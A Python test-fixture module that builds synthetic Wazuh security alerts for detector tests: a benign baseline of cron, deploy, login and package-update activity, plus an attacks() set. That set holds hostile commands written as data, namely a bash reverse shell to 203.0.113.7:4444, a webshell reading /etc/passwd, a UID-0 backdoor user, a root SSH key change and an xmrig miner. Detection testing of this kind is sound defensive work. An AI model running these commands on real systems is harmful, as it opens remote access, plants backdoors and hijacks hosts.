"""Small, exact Wazuh alert builders for detector tests (the generator makes the big realistic sets)."""
from __future__ import annotations

import datetime as dt
import itertools
import random
from typing import Any, Dict, List, Optional

_ids = itertools.count(1)
BASE = dt.datetime(2026, 11, 2, 0, 0, 0)


def ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}+0000"


def _base(t: dt.datetime, rule_id: str, level: int, desc: str, groups: List[str], agent: str, agent_id: str) -> Dict[str, Any]:
    n = next(_ids)
    return {
        "timestamp": ts(t),
        "rule": {"level": level, "description": desc, "id": rule_id, "firedtimes": 1, "mail": False, "groups": groups},
        "agent": {"id": agent_id, "name": agent, "ip": "10.0.0." + str(int(agent_id) % 250 + 1)},
        "manager": {"name": "wazuh-manager"},
        "id": f"{int(t.timestamp())}.{n}",
        "decoder": {"name": "json"},
        "location": "test",
    }


def fim(t: dt.datetime, path: str, *, event: str = "modified", user: str = "root", process: str = "dpkg",
        agent: str = "web-01", agent_id: str = "001") -> Dict[str, Any]:
    rid, level = {"modified": ("550", 7), "deleted": ("553", 7), "added": ("554", 5)}[event]
    a = _base(t, rid, level, "Integrity checksum changed.", ["ossec", "syscheck", "syscheck_entry_" + event],
              agent, agent_id)
    a["syscheck"] = {"path": path, "event": event, "mode": "whodata",
                     "audit": {"effective_user": {"id": "0", "name": user}, "user": {"id": "0", "name": user},
                               "process": {"id": "123", "name": process, "ppid": "1"}}}
    return a


def command(t: dt.datetime, argv: List[str], *, user: str = "deploy", agent: str = "web-01",
            agent_id: str = "001") -> Dict[str, Any]:
    a = _base(t, "80792", 3, f"Audit: Command: {argv[0]}.", ["audit", "audit_command"], agent, agent_id)
    a["data"] = {"audit": {"exe": argv[0], "command": argv[0].rsplit("/", 1)[-1], "uid": "1000", "euid": "1000",
                           "key": "audit-wazuh-c", "execve": {f"a{i}": x for i, x in enumerate(argv)}}}
    a["full_log"] = f'type=EXECVE msg=audit(1.2:3): argc={len(argv)} UID="{user}" EUID="{user}"'
    return a


def event(t: dt.datetime, rule_id: str, *, level: int = 3, desc: str = "event", groups=("syslog",),
          agent: str = "web-01", agent_id: str = "001", srcip: Optional[str] = None,
          user: Optional[str] = None) -> Dict[str, Any]:
    a = _base(t, rule_id, level, desc, list(groups), agent, agent_id)
    data = {}
    if srcip:
        data["srcip"] = srcip
    if user:
        data["dstuser"] = user
    if data:
        a["data"] = data
    return a


def normal_fleet(days: int = 4, seed: int = 0) -> List[Dict[str, Any]]:
    """A few days of routine activity on three hosts: deploys, package updates, cron, logins."""
    rng = random.Random(seed)
    out = []
    for d in range(days):
        day = BASE + dt.timedelta(days=d)
        for h in range(24):
            t0 = day + dt.timedelta(hours=h)
            for host, hid in (("web-01", "001"), ("web-02", "002"), ("db-01", "003")):
                # cron every hour (commands by root)
                out.append(command(t0 + dt.timedelta(minutes=5), ["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                                   user="root", agent=host, agent_id=hid))
                out.append(command(t0 + dt.timedelta(minutes=6), ["/bin/sh", "-c", "run-parts /etc/cron.hourly"],
                                   user="root", agent=host, agent_id=hid))
                # ordinary syslog noise
                for k in range(rng.randint(2, 5)):
                    out.append(event(t0 + dt.timedelta(minutes=10 + k), "5501", desc="PAM: Login session opened.",
                                     groups=["pam", "syslog", "authentication_success"], agent=host, agent_id=hid,
                                     user="deploy"))
                if 8 <= h <= 18:
                    out.append(event(t0 + dt.timedelta(minutes=20), "5715", level=3, desc="sshd: authentication success.",
                                     groups=["syslog", "sshd", "authentication_success"], agent=host, agent_id=hid,
                                     srcip="10.1.2.3", user="alice"))
            if 9 <= h <= 17:
                for host, hid in (("web-01", "001"), ("web-02", "002")):
                    rel = "%08x" % rng.getrandbits(32)
                    for f in ("index.php", "app.js", "style.css", "config.php"):
                        out.append(fim(t0 + dt.timedelta(minutes=30), f"/var/www/app/releases/{rel}/public/{f}",
                                       event="added", user="deploy", process="rsync", agent=host, agent_id=hid))
                    out.append(command(t0 + dt.timedelta(minutes=31), ["/usr/bin/git", "pull", "origin", "main"],
                                       user="deploy", agent=host, agent_id=hid))
                    out.append(command(t0 + dt.timedelta(minutes=32), ["/usr/bin/rsync", "-a", f"/srv/build/{rel}/",
                                       f"/var/www/app/releases/{rel}/"], user="deploy", agent=host, agent_id=hid))
            if h == 3:
                for host, hid in (("web-01", "001"), ("web-02", "002"), ("db-01", "003")):
                    for lib in ("libssl", "libc", "libz", "libcurl"):
                        v = rng.randint(1, 9)
                        out.append(fim(t0 + dt.timedelta(minutes=1), f"/usr/lib/x86_64-linux-gnu/{lib}.so.{v}",
                                       event="modified", user="root", process="dpkg", agent=host, agent_id=hid))
                    out.append(fim(t0 + dt.timedelta(minutes=2), "/usr/bin/curl", user="root", process="dpkg",
                                   agent=host, agent_id=hid))
                    out.append(command(t0 + dt.timedelta(minutes=1), ["/usr/bin/apt-get", "-y", "upgrade"],
                                       user="root", agent=host, agent_id=hid))
    out.sort(key=lambda a: a["timestamp"])
    return out


def attacks(day_offset: int = 5) -> Dict[str, List[Dict[str, Any]]]:
    """One alert set per attack kind, on a day after the normal fleet."""
    t = BASE + dt.timedelta(days=day_offset, hours=14)
    m = dt.timedelta(minutes=1)
    return {
        "webshell": [fim(t, "/var/www/app/releases/current/public/uploads/cmd.php", event="added",
                         user="www-data", process="php-fpm7.4"),
                     command(t + m, ["/bin/sh", "-c", "id; uname -a; cat /etc/passwd"], user="www-data")],
        "reverse_shell": [command(t + 2 * m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
                                  user="www-data")],
        "ssh_key": [fim(t + 3 * m, "/root/.ssh/authorized_keys", event="modified", user="www-data", process="bash")],
        "uid0_user": [fim(t + 4 * m, "/etc/passwd", event="modified", user="root", process="useradd"),
                      command(t + 4 * m, ["/usr/sbin/useradd", "-o", "-u", "0", "-g", "0", "sysadm2"], user="root")],
        "miner": [fim(t + 5 * m, "/tmp/.X11-unix/.x/xmrig", event="added", user="www-data", process="curl"),
                  command(t + 5 * m, ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"],
                          user="www-data")],
    }
